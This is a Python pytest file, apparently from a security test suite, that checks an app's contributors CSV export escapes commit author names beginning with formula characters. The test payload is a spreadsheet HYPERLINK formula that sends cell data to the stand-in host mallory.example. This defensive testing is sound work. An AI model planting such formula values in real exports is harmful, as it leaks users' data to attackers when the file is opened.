"""Attack 51: mallory commits under a name that is a formula, and somebody opens the table of authors."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from local_instance import Guest, serve
from programs import Program
from small_world import ATLAS, enter, fill
from sqlalchemy import update

from trackeep.store.tables_fetched import commit

pytestmark = pytest.mark.anyio


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t="])
async def test_a_name_is_no_formula(sandbox: Program, tmp_path: Path, beginning: str) -> None:
    """In a table to be opened with a spreadsheet no cell begins as a formula does."""
    name = f'{beginning}HYPERLINK("https://mallory.example/?"&A1)'
    async with serve(tmp_path, sandbox.url) as instance, Guest(instance.url, "") as alice:
        await fill(instance.site.db, instance.site.now())
        forged = {"author_name": name, "author_email": "nobody@x.example", "authored_at": instance.site.now()}
        async with instance.site.db.write() as conn:
            await conn.execute(update(commit).where(commit.c.repository_id == ATLAS).values(forged))
        await enter(instance, alice)
        table = (await alice.open("/r/fernhill/atlas/charts/contributors.csv")).text
    names = [row[0] for row in csv.reader(table.splitlines())]
    assert f"'{name}" in names and name not in names
